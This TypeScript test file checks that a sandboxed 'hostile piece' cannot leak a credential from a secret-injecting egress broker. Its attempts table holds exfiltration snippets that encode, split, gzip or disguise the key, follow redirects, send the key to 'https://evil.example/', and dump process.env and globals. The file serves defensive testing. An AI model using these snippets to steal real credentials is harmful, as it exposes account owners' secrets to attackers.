import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { apiOrigin } from '../egress/testing/broker.suite.ts';
import { holdPlaceholder, otherOrigin, secret, textOf } from '../egress/testing/placeholders.suite.ts';
import { toEgress } from '../execution/handler-fetch.ts';
import { openTestBed } from '../execution/sandbox/testing/test-bed.suite.ts';
import { openPiece } from './piece-process.ts';
import { pieceOf } from './testing/small-pieces.suite.ts';

const bed = await openTestBed({ isolation: 'sandbox' });
after(() => bed[Symbol.asyncDispose]());

/** Attempts to take the credential away. Each sees `key`, what the piece holds, and `send`. */
const attempts: Readonly<Record<string, string>> = {
  text: `await send('/message', { method: 'POST', body: 'my key: ' + key });`,
  json: `await send('/message', { method: 'POST', body: JSON.stringify({ text: key }) });`,
  split: `await send('/message', { method: 'POST', body: JSON.stringify([...key]) });`,
  reversed: `await send('/message', { method: 'POST', body: [...key].reverse().join('') });`,
  encoded: `await send('/message?text=' + Buffer.from('x' + key).toString('base64url'));`,
  bytes: `await send('/message', { method: 'PUT', body: require('zlib').gzipSync(key) });`,
  part: `const form = new FormData(); form.set('text', key); await send('/message', { method: 'POST', body: form });`,
  header: `await send('/message', { headers: { 'x-status': key } });`,
  agent: `await send('/message', { headers: { 'user-agent': 'Bearer ' + key } });`,
  disguise: `await send('/message', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: '{"text":"&token=' + key + '&":1}' });`,
  beside: `await send('/message', { method: 'POST', headers: { authorization: 'Bearer ' + key }, body: 'my key: ' + key });`,
  other: `await fetch('${otherOrigin}/', { headers: { authorization: 'Bearer ' + key } });`,
  stranger: `await fetch('https://evil.example/' + key);`,
  redirect: `await send('/redirect', { headers: { authorization: 'Bearer ' + key } });`,
  leak: `await send('/leak', { headers: { authorization: 'Bearer ' + key } });`,
  echo: `const answer = await send('/echo', { headers: { authorization: 'Bearer ' + key } }); const text = await answer.text();
    return [text, [...text].reverse().join(''), Buffer.from(text).toString('hex')];`,
  environment: `const seen = []; for (const one of [process.env, globalThis, context]) seen.push(require('util').inspect(one, { depth: 6, showHidden: true })); return seen;`,
};

test('a hostile piece in the sandbox takes its credential nowhere but to its place', async (t) => {
  const { placeholder, received, send } = await holdPlaceholder(t, {
    places: [
      { in: 'header', name: 'authorization' },
      { in: 'form', name: 'token' },
    ],
    answer: ({ url, headers }) => {
      if (url === '/redirect') return { status: 307, headers: { location: `${otherOrigin}/caught` } };
      if (url === '/leak') return { status: 302, headers: { location: `${otherOrigin}/?${headers.authorization}` } };
      return { body: JSON.stringify(headers) };
    },
  });
  const source = pieceOf(
    Object.fromEntries(
      Object.entries(attempts).map(([name, body]) => [
        name,
        `const key = auth.secret_text; const send = (path, init) => fetch('${apiOrigin}' + path, init); ${body}`,
      ]),
    ),
  );
  await using piece = await openPiece(Buffer.from(source), bed.sandbox);
  const outputs: string[] = [];
  for (const action of Object.keys(attempts)) {
    const auth = { kind: 'SECRET_TEXT', fields: { token: placeholder } } as const;
    const task = { mode: 'run', action, props: {}, auth } as const;
    const outcome = await piece.run(task, new AbortController().signal, async (request) => {
      const result = await send(toEgress(request));
      if (result.kind !== 'response') throw new Error('message' in result ? result.message : result.kind);
      return { status: result.status, headers: result.headers, text: result.body.toString() };
    });
    outputs.push(JSON.stringify(outcome));
  }
  const inPlace = received.map((request) => {
    const { authorization = '', ...headers } = request.headers;
    const form = request.body.replace(`&token=${encodeURIComponent(secret)}&`, '&token=&');
    const rest = textOf({ ...request, headers, body: form });
    for (const written of [secret, encodeURIComponent(secret), secret.slice(5, 20)])
      assert.ok(!rest.includes(written), rest);
    return `${request.url} ${authorization === `Bearer ${secret}`}`;
  });
  // What arrived: the form in disguise, which is no JSON any more, the redirects without the second step, and the echo.
  assert.deepEqual(inPlace, ['/message false', '/redirect true', '/caught false', '/leak true', '/echo true']);
  assert.ok(!received[0]?.body.includes('"'));
  assert.ok(!outputs.join('').includes(secret.slice(5, 20)));
  assert.ok(!outputs.join('').includes([...secret].reverse().join('').slice(5, 20)));
});
